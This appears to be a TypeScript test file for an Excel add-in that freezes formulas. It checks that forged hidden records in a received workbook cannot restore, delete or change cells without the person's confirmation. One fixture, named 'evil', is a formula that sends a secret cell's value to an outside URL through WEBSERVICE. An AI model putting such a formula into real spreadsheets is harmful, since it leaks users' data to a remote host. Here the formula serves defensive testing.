/// <reference types="office-js" />
/** A workbook may come with hidden records that somebody made: opening it writes, removes and claims nothing. */
import { toNameFormulas } from "../../src/features/pins/sheet/persisted-string";
import { createPinnedCells } from "../../src/features/pins/sheet/pinned-cells";
import { fingerprint, namesOfPin } from "../../src/features/pins/sheet/pin-records";
import { splitFormula } from "../../src/host/formula-references";
import type { Addin } from "../../src/app/addin-status";
import { automateWorkbook } from "./automated-workbook";
import { deviceWatch } from "./device-watch";

const evil = '=RENT.PRICE(A1)&WEBSERVICE("https://example.com/?"&A1)';
let device = new Map<string, string>();
const host = automateWorkbook({ scripts: ["automation.js"] });
const addin = (): Addin => host.workbook.window["compsheet"] as Addin;

const nameOf = (prefix: string, index: number): string => `${prefix}${index === 0 ? "" : `.${index + 1}`}`;
const intentNames = (intent: object): [string, string][] =>
  toNameFormulas([{ text: JSON.stringify({ form: 1, kind: "pin", ...intent }) }]).map((formula, index) => [
    nameOf("_compsheet.freezing", index),
    formula,
  ]);
const pinNames = (formula: string, value: unknown = 7, kind: "pin" | "handover" = "pin"): [string, string][] =>
  namesOfPin(
    {
      id: 1,
      kind,
      pieces: splitFormula(formula, "Deal"),
      rows: [fingerprint([value])],
      formats: [["General"]],
      keys: [],
    },
    "Deal!$B$2",
  ).map(({ name, formula: kept }) => [name, kept]);

/** As a workbook that somebody sends. */
async function openWith(names: readonly (readonly [string, string])[], storage = new Map<string, string>()) {
  device = storage;
  await host.open({
    localStorage: device,
    sheets: [{ name: "Deal", cells: { A1: "secret", B2: 7 } }, { name: "Empty" }],
  });
  await host.excel.run(async (context) => {
    for (const [name, formula] of names) context.workbook.names.add(name, formula).visible = false;
    await context.sync();
  });
  await host.reopen({ localStorage: device });
  await addin()
    .pins.settle({ by: "opening" })
    .catch(() => undefined);
  await host.workbook.settled();
}

const image = (): unknown => [
  host.workbook.getRange("Deal!A1:B2").formulas,
  host.workbook.engine.workbook.getSheets().map((sheet) => sheet.getSheetName()),
  host.workbook.save().names,
];

test.each([
  ["a kept formula", "=RENT.PRICE(A1)", {}],
  ["a kept formula that asks a network", evil, {}],
  ["an empty sheet to remove", "=RENT.PRICE(A1)", { sheet: "Empty" }],
  ["a device's name", "=RENT.PRICE(A1)", { by: "tests", at: 0, token: "guess" }],
])("opening a workbook with a forged intent changes nothing: %s", async (_, formula, more) => {
  for (const action of ["keep", "bring back"]) {
    await openWith(
      [...pinNames(formula), ...intentNames({ action, ids: "1", overwrite: true, ...more })],
      new Map([["compsheet.device", "tests"]]),
    );
    const [cells, sheets, names] = image() as [unknown, unknown, unknown[]];
    expect([cells, sheets, names.length]).toEqual([
      [
        ["secret", ""],
        ["", 7],
      ],
      ["Deal", "Empty"],
      2,
    ]);
    // Other actions are no consent to it.
    const before = image();
    for (const act of [() => addin().pins.pin("workbook"), () => addin().pins.unpin("workbook")])
      await expect(act()).rejects.toThrow("on another device");
    expect(image()).toEqual(before);
    expect((await addin().pins.cutFormulas()).map(({ address, formula: shown }) => [address, shown])).toEqual([
      ["Deal!B2", formula],
    ]);
    host.workbook.close();
  }
});

test("a forged conversion removes no stored answers", async () => {
  await openWith(intentNames({ action: "hand over", kind: "handover", ids: "" }));
  expect(await addin().pins.isCut()).toBe(true);
  await expect(addin().pins.settle({ by: "action" })).rejects.toThrow("on another device");
});

test("the person who has seen the formulas may have them, without the empty sheet, or leave the cells as they are", async () => {
  const names = [...pinNames("=RENT.PRICE(A1)"), ...intentNames({ action: "keep", ids: "1", sheet: "Empty" })];
  await openWith(names);
  expect(await addin().pins.settle()).toBe("keep");
  await host.workbook.settled();
  expect(host.workbook.getRange("Deal!B2").formulas).toEqual([["=RENT.PRICE(A1)"]]);
  expect(host.workbook.engine.workbook.getSheets()).toHaveLength(2);
  expect(host.workbook.save().names).toEqual([]);
  host.workbook.close();

  await openWith(names);
  await addin().pins.dismiss();
  expect(await addin().pins.isCut()).toBe(false);
  expect((await addin().pins.list()).map(({ formula, state }) => [formula, state])).toEqual([
    ["=RENT.PRICE(A1)", "pinned"],
  ]);
  expect(host.workbook.getCell("Deal!B2")).toBe(7);
});

test("what this device began is put in order when it is opened, but for formulas that do more than calculate", async () => {
  for (const [formula, isWritten] of [
    ["=IF(A1>0,12*RENT.PRICE(A1),0)", true],
    [evil, false],
  ] as const) {
    const storage = new Map<string, string>();
    const intent = deviceWatch(storage).sign({ action: "keep", kind: "pin", ids: [1] });
    await openWith([...pinNames(formula), ...intentNames({ ...intent, ids: "1" })], storage);
    expect(host.workbook.getRange("Deal!B2").formulas).toEqual([[isWritten ? formula : 7]]);
    expect(await addin().pins.isCut()).toBe(!isWritten);
    host.workbook.close();
  }
});

test("unfreezing writes no formula of a foreign record that does more than calculate until the person has seen it", async () => {
  await openWith(pinNames(evil));
  const before = image();
  const asking = { address: "Deal!B2", formula: evil, state: "pinned", asks: true };
  await host.excel.run(async (context) => {
    context.workbook.worksheets.getItem("Deal").getRange("B2").select();
    await context.sync();
  });
  // The button of the ribbon, "Unfreeze all", and a row with another formula in view.
  for (const [which, confirmed] of [
    ["selection", undefined],
    ["workbook", undefined],
    [[1], undefined],
    [[1], ["=RENT.PRICE(A1)"]],
  ] as const)
    expect(await addin().pins.unpin(which, { overwrite: true, ...(confirmed && { confirmed }) })).toMatchObject({
      restored: 0,
      changed: [],
      unconfirmed: [asking],
    });
  expect(image()).toEqual(before);
  expect(
    addin()
      .getStatus()
      .notices.map(({ message }) => message),
  ).toContain(
    "Deal!B2 keeps its value: its saved formula does more than calculate and was not frozen on this device. Check the formula under Frozen cells on Home, then restore it there.",
  );
  expect(await addin().pins.list()).toMatchObject([asking]);
  expect(await addin().pins.unpin([1], { confirmed: [evil] })).toEqual({ restored: 1, changed: [] });
  expect(host.workbook.getRange("Deal!B2").formulas).toEqual([[evil]]);
});

test("re-linking a foreign values-only copy leaves out such formulas until the person has seen them", async () => {
  await openWith(pinNames(evil, 7, "handover"));
  const before = image();
  const asking = { address: "Deal!B2", formula: evil };
  expect(await addin().handOver.state()).toMatchObject({ formulas: 1, unconfirmed: [asking] });
  expect(await addin().handOver.relink()).toMatchObject({ restored: 0, unconfirmed: [asking] });
  expect(image()).toEqual(before);
  expect(await addin().handOver.relink([evil])).toEqual({ restored: 1, changed: [] });
  expect(host.workbook.getRange("Deal!B2").formulas).toEqual([[evil]]);
});

test("what this device froze itself comes back unasked, another device asks, and no seal fits another formula", async () => {
  const own = '=RENT.PROPERTY(INDIRECT("A1"),"city")&""';
  const open = (storage: Map<string, string>): Promise<void> =>
    host.open({
      localStorage: storage,
      sheets: [{ name: "Deal", cells: { A1: host.server.subject, B2: own } }],
    });
  const storage = new Map<string, string>();
  await open(storage);
  expect(await addin().pins.pin("workbook")).toMatchObject({ formulas: 1 });
  await host.reopen({ localStorage: storage });
  expect(await addin().pins.unpin("workbook")).toEqual({ restored: 1, changed: [] });
  expect(host.workbook.getRange("Deal!B2").formulas).toEqual([[own]]);
  await addin().pins.pin("workbook");
  const forge = (from: string, to: string): Promise<void> =>
    host.excel.run(async (context) => {
      const { names } = context.workbook;
      names.load("items/name,items/formula");
      await context.sync();
      for (const { name, formula } of names.items)
        if (name.startsWith("_compsheet.frozen.")) names.getItem(name).formula = String(formula).replace(from, to);
      await context.sync();
    });
  await forge("INDIRECT", "FORMULATEXT");
  expect(await addin().pins.unpin("workbook")).toMatchObject({
    restored: 0,
    unconfirmed: [{ formula: own.replace("INDIRECT", "FORMULATEXT") }],
  });
  await forge("FORMULATEXT", "INDIRECT");
  await host.reopen({ localStorage: new Map() });
  expect(await addin().pins.unpin("workbook")).toMatchObject({ restored: 0, unconfirmed: [{ formula: own }] });
});

test("records that claim millions of cells or pins are left unread, and whole; others are read", async () => {
  const [[name = "", formula = ""] = []] = pinNames("=RENT.PRICE(A1)");
  const claims = [
    formula.replace('[""General"",1]', '[""General"",60000000]'),
    formula.replace('""width"":1', '""width"":60000000').replace('[""General"",1]', '[""General"",60000000]'),
    formula.replace("Deal!$B$2", "Deal!$A:$XFD"),
    formula.replace('""pieces"":[', '""pieces"":[[5],'),
    formula.replace('""rows"":[', '""rows"":null,""x"":['),
  ];
  expect(new Set([formula, ...claims]).size).toBe(6);
  const names = claims.map((claim, index): [string, string] => [`_compsheet.frozen.${index + 2}`, claim]);
  await openWith([[name, formula], ...names]);
  const pins = createPinnedCells();
  expect((await pins.list()).map(({ id, state }) => [id, state])).toEqual([
    [1, "pinned"],
    ...claims.map((_, index) => [index + 2, "unreadable"]),
  ]);
  expect(await pins.unpin("workbook")).toEqual({ restored: 1, changed: [] });
  await host.workbook.settled();
  expect(host.workbook.save().names).toHaveLength(claims.length);
});

test("an intent that names millions of pins is neither carried out nor removed", async () => {
  await openWith(intentNames({ action: "keep", ids: "1-50000000,1--50,7-3" }));
  await expect(addin().pins.settle()).rejects.toThrow("can't be read");
  expect(await addin().pins.cutFormulas()).toEqual([]);
  expect(host.workbook.save().names).toHaveLength(1);
});
